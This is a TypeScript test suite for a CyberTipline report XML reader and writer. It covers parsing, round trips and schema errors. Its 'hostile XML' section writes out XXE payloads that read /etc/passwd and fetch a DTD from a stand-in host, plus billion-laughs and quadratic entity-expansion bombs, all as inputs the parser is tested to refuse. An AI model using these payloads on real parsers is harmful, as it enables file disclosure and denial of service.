import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { reportInputSchema } from './cybertip-rules.js';
import {
  sampleCybertipDocument,
  sampleFileDetailsUsingEverything,
  sampleReportUsingEverything,
} from './cybertip-samples.js';
import {
  cybertipFromXml,
  fileDetailsFromXml,
  fileDetailsToXml,
  reportDoneResponseToXml,
  reportFromXml,
  reportResponseToXml,
  reportToXml,
  type XmlReadFailure,
} from './cybertip-xml.js';

const fixture = (name: string): Buffer =>
  readFileSync(fileURLToPath(new URL(`../../test/fixtures/ncmec/recorded-2016/${name}`, import.meta.url)));
const xsdPath = fileURLToPath(new URL('./cyber_tipline.xsd', import.meta.url));

const minimalXml = (inner = '', rootAttrs = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?>
<report${rootAttrs}>
  <incidentSummary>
    <incidentType>Child Sex Tourism</incidentType>
    <incidentDateTime>2026-01-15T12:00:00Z</incidentDateTime>
  </incidentSummary>
  <reporter><reportingPerson><email>tips@esp.example.com</email></reportingPerson></reporter>
  ${inner}
</report>`;

function refused(result: { ok: boolean }): XmlReadFailure {
  expect(result.ok).toBe(false);
  return result as XmlReadFailure;
}

describe('reading the recorded 2016 exchanges', () => {
  it('parses the minimal report to the JSON form, which validates with the rules', () => {
    const read = reportFromXml(fixture('submit-request-minimal-report.xml'));
    expect(read).toEqual({
      ok: true,
      report: {
        incidentSummary: {
          incidentType: 'Child Pornography (possession, manufacture, and distribution)',
          incidentDateTime: '2012-10-15T09:00:00-06:00',
        },
        reporter: {
          reportingPerson: { firstName: 'Test', lastName: 'User', email: [{ value: 'test@ello.co' }] },
        },
      },
    });
    expect(read.ok && reportInputSchema.safeParse(read.report).success).toBe(true);
  });

  it('refuses the two reports NCMEC refused, naming the missing element', () => {
    const missing = refused(reportFromXml(fixture('submit-request-missing-incidentSummary.xml')));
    expect(missing.reason).toBe('invalid');
    expect(missing.issues[0]).toMatchObject({ path: '/incidentSummary', xpath: '/report/incidentSummary' });
    const incomplete = refused(reportFromXml(fixture('submit-request-incomplete-incidentSummary.xml')));
    expect(incomplete.message).toBe(
      'Required (an xs:dateTime such as 2026-01-15T12:00:00Z) (at /report/incidentSummary/incidentDateTime)',
    );
  });

  it('parses the recorded fileDetails with its name/value pairs', () => {
    const read = fileDetailsFromXml(fixture('fileinfo-request-details.xml'));
    expect(read).toEqual({
      ok: true,
      fileDetails: {
        reportId: 7855776,
        fileId: 'e6cb48fbb2b565e69ccded9b9cda62fb',
        details: [
          {
            nameValuePair: [
              { name: 'Got details', value: 'Here they are' },
              { name: 'Got more details', value: 'Here they all are' },
            ],
          },
        ],
      },
    });
  });

  it('writes responses byte for byte as NCMEC did', () => {
    for (const name of [
      'submit-response-ok.xml',
      'upload-response-ok.xml',
      'fileinfo-response-ok.xml',
      'retract-response-ok.xml',
    ]) {
      const recorded = fixture(name).toString('utf8').trim();
      const read = cybertipFromXml('reportResponse', recorded);
      expect(read.ok).toBe(true);
      if (read.ok) expect(reportResponseToXml(read.value)).toBe(recorded);
    }
    const done = fixture('finish-response-ok-no-files.xml').toString('utf8').trim();
    const read = cybertipFromXml('reportDoneResponse', done);
    expect(read).toEqual({ ok: true, value: { responseCode: 0, reportId: 7855778, files: {} } });
    if (read.ok) expect(reportDoneResponseToXml(read.value)).toBe(done);
  });
});

describe('round trips', () => {
  const seeds = [0, 1, 2, 3, 4, 5];

  it.each(seeds)('report using every element (seed %i): JSON → XML → JSON → XML is lossless', (seed) => {
    const json = sampleReportUsingEverything(seed);
    const xml = reportToXml(json);
    const back = reportFromXml(xml);
    expect(back).toEqual({ ok: true, report: json });
    if (back.ok) expect(reportToXml(back.report)).toBe(xml);
  });

  it.each(seeds)('file details using every element (seed %i) round-trip losslessly', (seed) => {
    const json = sampleFileDetailsUsingEverything(seed);
    const xml = fileDetailsToXml(json);
    const back = fileDetailsFromXml(xml);
    expect(back).toEqual({ ok: true, fileDetails: json });
    if (back.ok) expect(fileDetailsToXml(back.fileDetails)).toBe(xml);
  });

  it('XML written by someone else (other order of xs:all, CDATA, comments, references) reads to the same JSON', () => {
    const xml = minimalXml(
      `<additionalInfo><![CDATA[a <b> & c]]> &amp; &#x1F600;<!-- note --> &#233;&lt;&gt;&quot;&apos;</additionalInfo>`,
      ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="https://report.cybertip.org/ispws/xsd"',
    ).replace(
      '<incidentDateTime>',
      '<reportAnnotations><spam/><sextortion>true</sextortion></reportAnnotations><incidentDateTime>',
    );
    const read = reportFromXml(xml);
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    expect(read.report.additionalInfo).toBe('a <b> & c & 😀 é<>"\'');
    expect(read.report.incidentSummary.reportAnnotations).toEqual({ sextortion: true, spam: true });
    const again = reportToXml(read.report);
    expect(again).toContain(
      '<reportAnnotations>\n      <sextortion/>\n      <spam/>\n    </reportAnnotations>',
    );
    expect(reportFromXml(again)).toEqual(read);
  });

  it('keeps whitespace, line breaks and CR in text and attributes', () => {
    const report = {
      ...sampleReportUsingEverything(9),
      additionalInfo: '  lead\r\n\ttab  trail  ',
    };
    const hashes = {
      ...sampleFileDetailsUsingEverything(9),
      originalFileHash: [{ value: 'abc', hashType: ' a\t"b"\n&<c> ' }],
    };
    const r = reportFromXml(reportToXml(report));
    expect(r.ok && r.report.additionalInfo).toBe('  lead\r\n\ttab  trail  ');
    const f = fileDetailsFromXml(fileDetailsToXml(hashes));
    expect(f.ok && f.fileDetails.originalFileHash).toEqual([{ value: 'abc', hashType: ' a\t"b"\n&<c> ' }]);
  });
});

describe('presence flags', () => {
  it('accepts <viral/>, <viral></viral>, <viral>true</viral> and <viral>1</viral>; writes <viral/>', () => {
    for (const form of ['<viral/>', '<viral></viral>', '<viral>true</viral>', '<viral> 1 </viral>']) {
      const read = fileDetailsFromXml(
        `<fileDetails><reportId>1</reportId><fileId>abc</fileId><fileAnnotations>${form}<infant/></fileAnnotations></fileDetails>`,
      );
      expect(read.ok && read.fileDetails.fileAnnotations).toEqual({ viral: true, infant: true });
      if (read.ok)
        expect(fileDetailsToXml(read.fileDetails)).toContain(
          '<fileAnnotations>\n    <viral/>\n    <infant/>\n  </fileAnnotations>',
        );
    }
  });

  it('refuses <viral>false</viral>', () => {
    const read = refused(
      fileDetailsFromXml(
        '<fileDetails><reportId>1</reportId><fileId>abc</fileId><fileAnnotations><viral>false</viral></fileAnnotations></fileDetails>',
      ),
    );
    expect(read.reason).toBe('invalid');
    expect(read.issues[0]).toMatchObject({
      xpath: '/fileDetails/fileAnnotations/viral',
      path: '/fileAnnotations/viral',
      message: '<viral> is a presence flag: write <viral/> or <viral>true</viral>',
    });
  });

  it('writes the legacy potentialMeme boolean as a value, not a flag', () => {
    const xml = fileDetailsToXml({ reportId: 1, fileId: 'abc', potentialMeme: false });
    expect(xml).toContain('<potentialMeme>false</potentialMeme>');
  });
});

describe('hostile XML', () => {
  const xxeFile = `<?xml version="1.0"?>
<!DOCTYPE report [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<report><incidentSummary><incidentType>&xxe;</incidentType></incidentSummary></report>`;
  const xxeNetwork = `<?xml version="1.0"?><!DOCTYPE report SYSTEM "http://192.0.2.1/evil.dtd"><report/>`;
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<report><additionalInfo>&lol9;</additionalInfo></report>`;
  const quadratic = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "${'x'.repeat(50_000)}">]><report><additionalInfo>${'&a;'.repeat(50_000)}</additionalInfo></report>`;

  it.each([
    ['XXE file read', xxeFile],
    ['XXE network fetch', xxeNetwork],
    ['billion laughs', billionLaughs],
    ['quadratic blow-up', quadratic],
  ])('refuses %s with a clear error, before any entity is read', (_name, xml) => {
    const read = refused(reportFromXml(xml));
    expect(read.reason).toBe('malformed');
    expect(read.errorCode).toBe('TIP_ERR_INPUT_MALFORMED');
    expect(read.issues).toHaveLength(1);
    expect(read.issues[0].code).toBe('xml.doctype');
    expect(read.message).toMatch(
      /^DOCTYPE declarations are not accepted \(no DTDs, external entities or entity declarations\) \(at line \d+, column \d+\)$/,
    );
  });

  it('refuses entity references that are not predefined, even without a DOCTYPE', () => {
    const read = refused(reportFromXml(minimalXml('<additionalInfo>&lol9;</additionalInfo>')));
    expect(read.reason).toBe('malformed');
    expect(read.issues[0]).toMatchObject({ code: 'xml.entity', xpath: '/report/additionalInfo' });
    expect(read.issues[0].message).toMatch(/^Undefined entity &lol9;/);
    expect(
      refused(reportFromXml(minimalXml('<additionalInfo>&#0;</additionalInfo>'))).issues[0].message,
    ).toBe('Character reference &#0; is not a legal XML character');
  });

  it('refuses a DOCTYPE hidden after comments and processing instructions, but not the word inside CDATA', () => {
    expect(
      refused(reportFromXml(`<?xml version="1.0"?><!-- x --><?pi y?><!DOCTYPE report><report/>`)).issues[0]
        .code,
    ).toBe('xml.doctype');
    const cdata = reportFromXml(
      minimalXml('<additionalInfo><![CDATA[<!DOCTYPE x [<!ENTITY y "z">]>]]></additionalInfo>'),
    );
    expect(cdata.ok && cdata.report.additionalInfo).toBe('<!DOCTYPE x [<!ENTITY y "z">]>');
  });

  it('limits depth', () => {
    const deep = `<report>${'<additionalInfo>'.repeat(5000)}${'</additionalInfo>'.repeat(5000)}</report>`;
    const read = refused(reportFromXml(deep));
    expect(read.reason).toBe('too_large');
    expect(read.issues[0]).toMatchObject({
      code: 'xml.depth',
      message: 'Elements are nested deeper than 32 levels',
    });
  });

  it('limits size and element count', () => {
    const big = minimalXml(`<additionalInfo>${'a'.repeat(2000)}</additionalInfo>`);
    expect(refused(reportFromXml(big, { limits: { maxBytes: 1000 } })).issues[0].code).toBe('xml.size');
    expect(refused(reportFromXml(Buffer.from(big), { limits: { maxBytes: 1000 } })).errorCode).toBe(
      'TIP_ERR_INPUT_TOO_LARGE',
    );
    const many = minimalXml('<victim><victimPerson/></victim>'.repeat(100));
    expect(refused(reportFromXml(many, { limits: { maxElements: 150 } })).issues[0].code).toBe(
      'xml.elements',
    );
    expect(reportFromXml(many, { limits: { maxElements: 300 } }).ok).toBe(true);
  });

  it('survives a huge attribute', () => {
    const read = refused(reportFromXml(minimalXml(`<batchedReport reason="${'A'.repeat(2_000_000)}"/>`)));
    expect(read.reason).toBe('invalid');
    expect(read.issues[0]).toMatchObject({
      xpath: '/report/batchedReport/@reason',
      path: '/batchedReport/reason',
    });
  });

  it('refuses invalid UTF-8, UTF-16 and other declared encodings', () => {
    const valid = Buffer.from(minimalXml('<additionalInfo>æøå</additionalInfo>'), 'utf8');
    expect(reportFromXml(valid).ok).toBe(true);
    const broken = Buffer.concat([
      Buffer.from(minimalXml('<additionalInfo>'), 'utf8').subarray(0, 200),
      Buffer.from([0xc3, 0x28, 0xff]),
    ]);
    expect(refused(reportFromXml(broken)).message).toBe('The document is not valid UTF-8');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(minimalXml(), 'utf16le')]);
    expect(refused(reportFromXml(utf16)).message).toBe('UTF-16 documents are not accepted; send UTF-8');
    const latin1 = Buffer.from(minimalXml().replace('UTF-8', 'ISO-8859-1'), 'latin1');
    expect(refused(reportFromXml(latin1)).issues[0].code).toBe('xml.encoding');
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), valid]);
    expect(reportFromXml(bom).ok).toBe(true);
  });

  it('refuses characters XML forbids, and lone surrogates', () => {
    expect(refused(reportFromXml(minimalXml('<additionalInfo>\u0001</additionalInfo>'))).message).toMatch(
      /^Character U\+0001 is not allowed in XML \(at line 8, column \d+\)$/,
    );
    expect(refused(reportFromXml(minimalXml('<additionalInfo>\uD800</additionalInfo>'))).issues[0].code).toBe(
      'xml.char',
    );
  });

  it('reports syntax errors with line and column', () => {
    const read = refused(reportFromXml('<report>\n<incidentSummary></report>'));
    expect(read.reason).toBe('malformed');
    expect(read.issues[0].xpath).toMatch(/^line 2, column \d+$/);
    expect(refused(reportFromXml('')).reason).toBe('malformed');
    expect(refused(reportFromXml(minimalXml('<additionalInfo>a & b</additionalInfo>'))).reason).toBe(
      'malformed',
    );
    expect(refused(reportFromXml(minimalXml('<additionalInfo a="<"/>'))).reason).toBe('malformed');
  });

  it('never throws on random mutations of a valid document; whatever it accepts it can write back', () => {
    const xml = reportToXml(sampleReportUsingEverything(3));
    const markup = fc.constantFrom(
      '<',
      '>',
      '&',
      '"',
      "'",
      '/>',
      '</',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?x ?>',
      '&amp;',
      '&#0;',
      '&#x1F600;',
      '&lol;',
      '<!DOCTYPE r>',
      '<additionalInfo>',
      '</report>',
      '<viral/>',
      '\uFFFE',
      '\uD800',
      '\u0000',
      '\r\n',
    );
    fc.assert(
      fc.property(
        fc.array(
          fc.tuple(
            fc.nat(xml.length),
            fc.nat(20),
            fc.oneof(fc.string({ maxLength: 8, unit: 'binary' }), markup),
          ),
          {
            minLength: 1,
            maxLength: 5,
          },
        ),
        (edits) => {
          let doc = xml;
          for (const [at, del, insert] of edits) doc = doc.slice(0, at) + insert + doc.slice(at + del);
          const read = reportFromXml(doc);
          if (read.ok) {
            expect(reportFromXml(reportToXml(read.report))).toEqual(read);
          } else {
            expect(read.issues.length).toBeGreaterThan(0);
            expect(read.message.length).toBeGreaterThan(0);
          }
        },
      ),
      { numRuns: 200, seed: 42 },
    );
  });
});

describe('structure errors', () => {
  it('names unknown elements and attributes with their place', () => {
    const read = refused(
      reportFromXml(
        minimalXml('<victim><victimPerson><nickname>x</nickname></victimPerson><mood a="1"/></victim>'),
      ),
    );
    expect(read.reason).toBe('invalid');
    expect(read.issues.map((i) => [i.xpath, i.message])).toEqual([
      [
        '/report/victim[1]/victimPerson/nickname',
        'Unknown element <nickname> in <victimPerson>; allowed: firstName, lastName, phone, email, address, age, dateOfBirth',
      ],
      [
        '/report/victim[1]/mood',
        expect.stringMatching(/^Unknown element <mood> in <victim>; allowed: victimPerson, /) as string,
      ],
    ]);
    const attr = refused(
      reportFromXml(
        minimalXml('<victim><victimPerson><email kind="x">a@example.com</email></victimPerson></victim>'),
      ),
    );
    expect(attr.issues[0]).toMatchObject({
      xpath: '/report/victim[1]/victimPerson/email[1]/@kind',
      message: 'Unknown attribute kind on <email>; allowed: type, verified, verificationDate',
    });
  });

  it('refuses a single element given twice, text among elements, elements in text, and namespaces', () => {
    expect(
      refused(
        reportFromXml(minimalXml('<additionalInfo>a</additionalInfo><additionalInfo>b</additionalInfo>')),
      ).message,
    ).toBe('<additionalInfo> may occur only once in <report> (at /report/additionalInfo)');
    expect(refused(reportFromXml(minimalXml('stray text'))).issues[0].message).toBe(
      '<report> holds elements only; found text',
    );
    expect(
      refused(reportFromXml(minimalXml('<additionalInfo>a<b/></additionalInfo>'))).issues[0].message,
    ).toBe('<additionalInfo> holds text only; found element <b>');
    expect(refused(reportFromXml(minimalXml('', ' xmlns="urn:example"'))).issues[0].message).toMatch(
      /must not be in a namespace/,
    );
  });

  it('refuses the wrong document element', () => {
    expect(refused(reportFromXml('<fileDetails/>')).message).toBe(
      'Expected <report> as the document element; got <fileDetails> (at /)',
    );
    for (const doc of [
      '<report/><report/>',
      '<report/>trailing',
      'leading<report/>',
      '<report/><![CDATA[x]]>',
    ]) {
      expect(refused(reportFromXml(doc)).reason, doc).toBe('malformed');
    }
  });

  it('names elements whose names JavaScript reserves, as unknown', () => {
    expect(refused(reportFromXml(minimalXml('<__proto__>x</__proto__>'))).message).toBe(
      'The name "__proto__" is not part of the CyberTipline schema',
    );
    expect(refused(reportFromXml(minimalXml('<toString/>'))).issues[0].message).toMatch(
      /^Unknown element <toString> in <report>/,
    );
  });

  it('names unconvertible values', () => {
    const read = refused(
      reportFromXml(
        minimalXml(
          '<personOrUserReported><compromisedAccount>yes</compromisedAccount><priorCTReports>99999999999999999999</priorCTReports></personOrUserReported>',
        ),
      ),
    );
    expect(read.issues.map((i) => i.message)).toEqual([
      'Expected true, false, 1 or 0; got "yes"',
      'Expected an integer within ±9007199254740991 (the range JSON carries exactly); got "99999999999999999999"',
    ]);
    const lat = refused(
      reportFromXml(
        minimalXml(
          '<internetDetails><cellPhoneIncident><latitude>INF</latitude></cellPhoneIncident></internetDetails>',
        ),
      ),
    );
    expect(lat.issues[0]).toMatchObject({
      xpath: '/report/internetDetails[1]/cellPhoneIncident/latitude',
      path: '/internetDetails/0/cellPhoneIncident/latitude',
    });
  });

  it('applies the documented rules unless asked not to', () => {
    const noEmail = minimalXml().replace('<email>tips@esp.example.com</email>', '<firstName>A</firstName>');
    expect(refused(reportFromXml(noEmail)).issues[0]).toMatchObject({
      xpath: '/report/reporter/reportingPerson/email',
      message: "The reporting person's email is required (CyberTipline documentation)",
    });
    expect(reportFromXml(noEmail, { rules: false }).ok).toBe(true);
  });

  it('refuses to write a document that is not in the JSON form', () => {
    const report = { ...sampleReportUsingEverything(1), extra: 1 } as unknown as Parameters<
      typeof reportToXml
    >[0];
    expect(() => reportToXml(report)).toThrow(
      'Unknown field "extra" at /report; validate the document first',
    );
  });
});

// libxml2's command-line validator, when the machine has it (Debian package libxml2-utils), checks
// that what we write is valid against NCMEC's XSD itself, not just against our reading of it.
const hasXmllint = spawnSync('xmllint', ['--version']).status === 0;

describe.skipIf(!hasXmllint)('written XML against the XSD (xmllint)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cybertip-xsd-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('validates every generated document type for several seeds', () => {
    const files: string[] = [];
    for (const seed of [0, 1, 2, 3]) {
      for (const [root, xml] of [
        ['report', reportToXml(sampleReportUsingEverything(seed))],
        ['fileDetails', fileDetailsToXml(sampleFileDetailsUsingEverything(seed))],
        ['reportResponse', reportResponseToXml(sampleCybertipDocument('reportResponse', seed))],
        ['reportDoneResponse', reportDoneResponseToXml(sampleCybertipDocument('reportDoneResponse', seed))],
      ] as const) {
        const file = join(dir, `${root}-${seed}.xml`);
        writeFileSync(file, xml);
        files.push(file);
      }
    }
    const out = execFileSync('xmllint', ['--noout', '--nonet', '--schema', xsdPath, ...files], {
      encoding: 'utf8',
      stdio: 'pipe',
    });
    expect(out).toBe('');
  });
});
